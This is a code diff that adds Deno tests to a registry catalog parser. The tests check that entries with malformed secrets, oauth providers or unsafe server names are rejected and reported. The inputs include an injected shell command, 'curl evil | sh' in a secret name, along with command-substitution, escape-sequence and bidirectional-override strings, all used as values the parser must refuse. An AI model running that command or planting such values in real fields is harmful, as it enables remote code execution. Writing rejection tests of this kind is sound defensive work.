@@ -64,7 +64,25 @@ const wrong: [entry: string, problem: RegExp][] = [
   ["{image: a, volumes: [{a: b}]}", /"volumes" is no list of texts/],
   ["{image: a, env: [A=1]}", /"env" is no list of mappings/],
   ["{image: [a]}", /"image" is no text/],
+  ["{image: a, secrets: [{env: A}]}", /one of its secrets or providers has no name/],
+  ["{image: a, oauth: {providers: {a: b}}}", /"oauth.providers" is no list/],
+  ["{image: a, oauth: {providers: [null]}}", /has no name/],
+  ["{image: a, secrets: [{name: 'a; curl evil | sh', env: A}]}", /"a; curl evil \| sh" cannot be a name/],
+  ["{image: a, oauth: {providers: [{provider: $(x)}]}}", /"\$\(x\)" cannot be a name/],
 ];
+
+for (const name of ["a`b`", "a\nb", "\u001b[31m", "$HOME", "a\u202eb", ""]) {
+  Deno.test(`a server that is called ${JSON.stringify(name)} is left out and told`, () => {
+    const text = JSON.stringify({
+      registry: { [name]: { image: "x" }, "Io.github.a/b_c-1 @2": { image: "y" } },
+    });
+    const { servers, problems } = parseCatalog(text, "c", "c.json");
+    assert.deepEqual([...servers.keys()], ["Io.github.a/b_c-1 @2"]);
+    assert.deepEqual(problems, [
+      `c.json: the server ${JSON.stringify(name)} is left out: ${JSON.stringify(name)} cannot be a name`,
+    ]);
+  });
+}
 
 for (const [entry, problem] of wrong) {
   Deno.test(`a wrong entry is left out and told: ${entry}`, () => {
